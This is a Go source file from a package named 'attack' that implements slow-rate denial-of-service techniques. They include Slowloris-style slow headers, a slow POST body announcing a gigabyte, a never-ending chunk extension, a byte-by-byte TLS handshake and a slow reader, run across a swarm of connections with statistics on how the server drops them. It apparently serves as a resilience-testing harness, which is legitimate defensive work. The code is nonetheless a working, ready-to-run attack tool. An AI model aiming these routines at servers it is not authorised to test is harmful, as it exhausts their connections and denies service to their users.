package attack

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"time"
)

// SlowHandshake connects to a TLS port and sends the first record of a
// ClientHello byte by byte. Unit: a byte. (security P12)
func SlowHandshake(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(512)
	return t.swarm(ctx, func(ctx context.Context, ready func(), s *Stats) error {
		c, done, err := t.dial(ctx, "", s)
		if err != nil {
			return err
		}
		defer done()
		// A handshake record that announces 512 bytes, and of them a ClientHello.
		t.drip(ctx, c, s, ready, []byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, 0)
		return nil
	})
}

// SlowHeaders sends the head of a request byte by byte and never ends it.
// Unit: a byte.
func SlowHeaders(ctx context.Context, t Target) (Stats, error) {
	return t.slowH1(ctx, "GET %s HTTP/1.1\r\nHost: %s\r\nX-Slow: ", 'a')
}

// SlowBody announces a body of a gigabyte and sends it byte by byte. Unit: a byte.
func SlowBody(ctx context.Context, t Target) (Stats, error) {
	return t.slowH1(ctx, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000000\r\n\r\n", 'a')
}

// SlowChunk sends a chunk-size line that never ends, byte by byte, in a chunk
// extension. Unit: a byte. (security G4)
func SlowChunk(ctx context.Context, t Target) (Stats, error) {
	return t.slowH1(ctx, "POST %s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n5;x=", 'a')
}

func (t Target) slowH1(ctx context.Context, head string, unit byte) (Stats, error) {
	t = t.withDefaults(1 << 20)
	return t.swarm(ctx, func(ctx context.Context, ready func(), s *Stats) error {
		c, done, err := t.dial(ctx, "http/1.1", s)
		if err != nil {
			return err
		}
		defer done()
		t.drip(ctx, c, s, ready, fmt.Appendf(nil, head, t.Path, t.Host), unit)
		return nil
	})
}

// drip writes head at once, and then unit every t.Every, until t.Limit units are
// sent or the server has ended the connection.
func (t Target) drip(ctx context.Context, c net.Conn, s *Stats, ready func(), head []byte, unit byte) {
	start := time.Now()
	ended := make(chan string, 1)
	go func() { ended <- readEnd(c) }()
	defer func() { s.Held = time.Since(start) }()
	if _, err := c.Write(head); err != nil {
		s.cutBy(ctx, <-ended)
		return
	}
	ready()
	tick := time.NewTicker(t.Every)
	defer tick.Stop()
	for s.Sent < t.Limit {
		select {
		case how := <-ended:
			s.cutBy(ctx, how)
			return
		case <-ctx.Done():
			s.end("open", 1)
			return
		case <-tick.C:
		}
		if _, err := c.Write([]byte{unit}); err != nil {
			s.cutBy(ctx, <-ended)
			return
		}
		s.Sent++
	}
	s.end("open", 1)
}

// cutBy counts a connection that ended, by the server's will unless ctx was first.
func (s *Stats) cutBy(ctx context.Context, how string) {
	if ctx.Err() != nil {
		s.end("open", 1)
		return
	}
	if len(how) == 3 {
		s.Answered++
	}
	s.Cut++
	s.end(how, 1)
}

// readEnd reads what the server says until it ends the connection, and returns
// the status it answered with, or else how it ended.
func readEnd(c net.Conn) string {
	r := bufio.NewReader(io.LimitReader(c, 1<<20))
	line, err := r.ReadString('\n')
	status := ""
	if len(line) > 12 && line[:5] == "HTTP/" {
		status = line[9:12]
	}
	if err == nil {
		_, err = io.Copy(io.Discard, r)
	}
	switch {
	case status != "":
		return status
	case err == nil || err == io.EOF:
		return "eof"
	}
	return "reset"
}

// SlowReader asks for t.Path, which should be larger than what sockets buffer
// (8 MiB will do), and reads a byte every t.Every. When ctx ends, or after t.Limit bytes, it reads
// the rest at once for at most two seconds: "whole" means that the server had
// kept the response for it all the time, "cut" that it had given up. Unit: a byte read.
func SlowReader(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(1 << 20)
	return t.swarm(ctx, func(ctx context.Context, ready func(), s *Stats) error {
		c, done, err := t.dial(context.WithoutCancel(ctx), "http/1.1", s)
		if err != nil {
			return err
		}
		defer done()
		stop := context.AfterFunc(ctx, func() { c.SetReadDeadline(time.Now().Add(2 * time.Second)) })
		defer stop()
		start := time.Now()
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", t.Path, t.Host)
		ready()
		r := bufio.NewReaderSize(c, 1<<10)
		length, err := headLength(r)
		if err != nil {
			return fmt.Errorf("read head of %s: %w", t.Path, err)
		}
		got := t.sip(ctx, r, s)
		s.Held = time.Since(start)
		rest, _ := io.Copy(io.Discard, r)
		if got+rest == length {
			s.Answered++
			s.end("whole", 1)
		} else {
			s.Cut++
			s.end("cut", 1)
		}
		return nil
	})
}

// headLength reads the head of a response and returns its Content-Length.
func headLength(r *bufio.Reader) (int64, error) {
	response, err := http.ReadResponse(r, nil)
	if err != nil {
		return 0, err
	}
	return strconv.ParseInt(response.Header.Get("Content-Length"), 10, 64)
}

// sip reads a byte every t.Every and returns how many it read.
func (t Target) sip(ctx context.Context, r *bufio.Reader, s *Stats) (got int64) {
	tick := time.NewTicker(t.Every)
	defer tick.Stop()
	for s.Sent < t.Limit {
		select {
		case <-ctx.Done():
			return got
		case <-tick.C:
		}
		if _, err := r.ReadByte(); err != nil {
			return got
		}
		got++
		s.Sent++
	}
	return got
}
